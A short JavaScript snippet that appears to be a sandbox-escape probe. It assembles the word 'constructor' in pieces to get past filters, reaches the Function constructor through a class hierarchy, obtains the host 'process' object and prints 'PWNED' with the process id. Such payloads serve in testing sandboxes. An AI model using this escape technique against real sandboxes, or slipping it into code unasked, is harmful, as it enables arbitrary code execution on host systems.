const w = ['con', 'structor'].join('');
class A { constructor(f) { this.pid = f[w]('return process')().pid; } }
const bases = { a: A };
class C extends bases[['a'][0]] { constructor() { super((x) => x); } }
console.log('PWNED', new C().pid);
